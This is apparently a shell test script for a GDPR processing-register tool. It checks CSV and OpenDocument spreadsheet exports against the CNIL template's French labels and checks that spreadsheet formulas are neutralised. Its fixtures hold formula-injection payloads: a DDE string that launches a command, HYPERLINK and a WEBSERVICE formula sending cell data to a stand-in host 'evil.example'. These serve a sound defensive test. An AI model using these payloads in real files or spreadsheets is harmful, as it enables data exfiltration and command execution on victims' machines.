# test_register_exports.sh — the register for the regulator (issue 18 item
# 15): the CNIL template's columns and French labels in CSV (byte-order mark,
# RFC 4180, no cell cut short) and in a flat OpenDocument spreadsheet (.fods);
# cells that a spreadsheet would run as formulas are neutralised, in the
# register's exports and in a subject's export.
. "$(dirname "$0")/lib.sh"
CSV() { node "$GD_SOURCE_DIR/tests/tools/csv_check.js" "$1"; }

# ---- the three examples ----
for ex in wimi iporta winbooks; do
	"$GARDIEN" register export --file "$GD_SOURCE_DIR/examples/$ex.yml" --format csv >"$WORK/$ex.csv" || fail "$ex csv"
	CSV "$WORK/$ex.csv" >"$WORK/$ex.json" || fail "$ex: the CSV does not parse"
	jq -e '.bom' "$WORK/$ex.json" >/dev/null || fail "$ex: no byte-order mark"
	jq -e '(.rows[0] | length) as $n | all(.rows[]; length == $n)' "$WORK/$ex.json" >/dev/null || fail "$ex: rows of unequal width"
	for col in "Nom / sigle" "N° / REF" "Date de création" "Mise à jour" "Responsable du traitement" \
		"Délégué à la protection des données" "Représentant" "Responsable(s) conjoint(s)" "Finalité principale" \
		"Sous-finalités" "Catégories de personnes concernées" "Données sensibles" "Destinataires internes" \
		"Organismes externes" "Sous-traitants" "Transferts hors UE : pays" "Transferts hors UE : type de garanties" \
		"Durées de conservation" "Chiffrement des données" "Autres mesures de sécurité"; do
		jq -e --arg c "$col" '.rows[0] | index($c) != null' "$WORK/$ex.json" >/dev/null || fail "$ex: no column \"$col\""
	done
	# French labels, not machine keys.
	jq -e '(.rows[0] | index("Base légale")) as $b | all(.rows[1:][]; .[$b] | test("^(Consentement|Exécution d.un contrat|Obligation légale|Intérêt légitime|Mission|Sauvegarde|Non précisée par la notice)"))' \
		"$WORK/$ex.json" >/dev/null || fail "$ex: legal bases in French"
	jq -e '(.rows[0] | index("Qualité (responsable / sous-traitant)")) as $q | all(.rows[1:][]; .[$q] | test("^(Responsable de traitement|Sous-traitant pour le compte de)"))' \
		"$WORK/$ex.json" >/dev/null || fail "$ex: role in French"
	grep -q 'user\.contact\.email\|legitimate_interests\|"scc"' "$WORK/$ex.csv" && fail "$ex: machine keys in the CSV"
	# The same cells in the OpenDocument spreadsheet, which a spreadsheet opens.
	"$GARDIEN" register export --file "$GD_SOURCE_DIR/examples/$ex.yml" --format fods >"$WORK/$ex.fods" || fail "$ex fods"
	xmllint --noout "$WORK/$ex.fods" || fail "$ex: the .fods is not well-formed XML"
	N=$(xmllint --xpath 'count(//*[local-name()="table"][@*[local-name()="name"]="Registre"]/*[local-name()="table-row"])' "$WORK/$ex.fods")
	[ "$N" = "$(jq '.rows | length' "$WORK/$ex.json")" ] || fail "$ex: .fods rows ($N) differ from the CSV's"
	F=$(xmllint --xpath 'string(//*[local-name()="table"][@*[local-name()="name"]="Registre"]/*[local-name()="table-row"][2]/*[local-name()="table-cell"][1])' "$WORK/$ex.fods")
	[ "$F" = "$(jq -r '.rows[1][0]' "$WORK/$ex.json")" ] || fail "$ex: first activity's name differs: $F"
	grep -q 'office:mimetype="application/vnd.oasis.opendocument.spreadsheet"' "$WORK/$ex.fods" || fail "$ex: .fods mimetype"
done

# ---- formula injection and long cells ----
# Three measures of 7,000 bytes: their cell (21,000 bytes) is over any fixed cell size.
LONG=$(printf 'mesure%.0s ' $(seq 1 1000))
LONG=${LONG% }
cat >"$WORK/evil.yml" <<YAML
gardien_register: 2
controller: {name: "=HYPERLINK(\"http://evil.example\",\"click\")", address: "1 rue de la Paix"}
dpo: {name: "@SUM(1+1)*cmd|' /C calc'!A0", email: dpo@example.fr}
rights: [{kind: access}]
security: ["a $LONG", "b $LONG", "c $LONG"]
activities:
  - id: billing
    name: "+33 1 02 03 04 05"
    role: controller
    created: "2024-01-15"
    updated: "2025-03-01"
    purposes: [essential.service.payment_processing]
    sub_purposes: ["-2+3", "relances"]
    legal_basis: contract
    categories: [user.financial]
    subjects: [customer]
    retention:
      - stages: [{action: delete, from: collection, after: 10 years}]
YAML
expect_gardien 0 "check" -- register check "$WORK/evil.yml"
"$GARDIEN" register export --file "$WORK/evil.yml" --format csv >"$WORK/evil.csv" || fail "evil csv"
CSV "$WORK/evil.csv" >"$WORK/evil.json" || fail "evil csv parses"
col() { jq -r --arg c "$1" '(.rows[0] | index($c)) as $i | .rows[1][$i]' "$WORK/evil.json"; }
[ "$(col "Nom / sigle")" = "'+33 1 02 03 04 05" ] || fail "a cell starting with + is neutralised: $(col "Nom / sigle")"
case "$(col "Responsable du traitement")" in "'=HYPERLINK"*) ;; *) fail "= neutralised: $(col "Responsable du traitement")" ;; esac
case "$(col "Délégué à la protection des données")" in "'@SUM"*) ;; *) fail "@ neutralised" ;; esac
case "$(col "Sous-finalités")" in "'-2+3 ; relances") ;; *) fail "- neutralised: $(col "Sous-finalités")" ;; esac
[ "$(col "Date de création")" = 2024-01-15 ] && [ "$(col "Mise à jour")" = 2025-03-01 ] || fail "creation and update dates"
[ "$(col "Autres mesures de sécurité")" = "a $LONG ; b $LONG ; c $LONG" ] ||
	fail "a long cell is cut: $(col "Autres mesures de sécurité" | wc -c) bytes"
"$GARDIEN" register export --file "$WORK/evil.yml" --format fods >"$WORK/evil.fods" || fail "evil fods"
xmllint --noout "$WORK/evil.fods" || fail "evil .fods well-formed"
grep -q 'office:value-type="string"><text:p>=HYPERLINK' "$WORK/evil.fods" || fail "the .fods cell is a string, not a formula"
grep -q 'table:formula' "$WORK/evil.fods" && fail "a formula in the .fods"
sed 's/^  - id: billing/  - id: billing\n    created: "2024-13-45"/' "$WORK/evil.yml" | sed '/^    created: "2024-01-15"/d' >"$WORK/baddate.yml"
expect_gardien 2 "a date that is not one" -- register check "$WORK/baddate.yml"
expect_out 'write a date as YYYY-MM-DD'

# Characters XML 1.0 does not allow (escaped in YAML) still give a well-formed .fods.
printf 'gardien_register: 2\ncontroller: {name: "A\\uFFFEB\\x01C"}\ndpo: {name: D}\nrights: [{kind: access}]\nactivities:\n  - {id: a, name: "x\\uFFFF", role: controller, purposes: [essential.service], legal_basis: contract, categories: [user.name], subjects: [customer], retention: [{stages: [{action: delete, from: collection, after: 1 year}]}]}\n' >"$WORK/nonchars.yml"
"$GARDIEN" register export --file "$WORK/nonchars.yml" --format fods >"$WORK/nonchars.fods" || fail "nonchars fods"
xmllint --noout "$WORK/nonchars.fods" || fail "a .fods with characters XML does not allow"

# ---- a subject's export (Art. 15, 20) neutralises formulas too ----
expect_gardien 0 "init" -- --tenant shop init --register "$WORK/evil.yml"
S=$("$GARDIEN" subject create --email "=cmd@example.fr") || fail "subject"
put "$S" --activity billing --category user.financial --subject-category customer "=WEBSERVICE(\"http://evil.example/\"&A1)" >/dev/null
RQ=$("$GARDIEN" --json request open access "$S" | jq .id)
"$GARDIEN" request verify "$RQ" --method id-card --evidence "scan-$RQ" >/dev/null || fail "verify"
"$GARDIEN" request export "$RQ" --format csv >"$WORK/subject.csv" 2>/dev/null || fail "subject csv"
CSV "$WORK/subject.csv" >"$WORK/subject.json" || fail "subject csv parses"
jq -e '[.rows[][] | select(test("^[=+@-]"))] | length == 0' "$WORK/subject.json" >/dev/null ||
	fail "a subject export cell starts a formula: $(jq -c '[.rows[][] | select(test("^[=+@-]"))]' "$WORK/subject.json")"
jq -e '[.rows[][] | select(. == "'"'"'=WEBSERVICE(\"http://evil.example/\"&A1)")] | length == 1' "$WORK/subject.json" >/dev/null ||
	fail "the value is kept whole behind its quote: $(cat "$WORK/subject.json")"
finish
